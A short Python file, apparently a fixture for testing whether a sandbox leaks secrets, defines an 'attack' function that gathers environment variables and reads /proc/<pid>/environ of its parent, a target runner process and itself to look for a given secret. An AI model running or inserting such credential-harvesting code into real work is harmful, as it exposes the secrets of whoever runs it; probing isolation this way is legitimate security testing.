"""Reads the secrets in the environment of whoever runs it."""

import os
import pathlib


def attack():
    seen = repr(dict(os.environ))
    for process in (os.getppid(), TARGETS["runner"], "self"):
        path = pathlib.Path(f"/proc/{process}/environ")
        if path.exists():
            seen += path.read_text()
    if TARGETS["secret"] not in seen:
        raise PermissionError("nothing found")
    return "the secret"
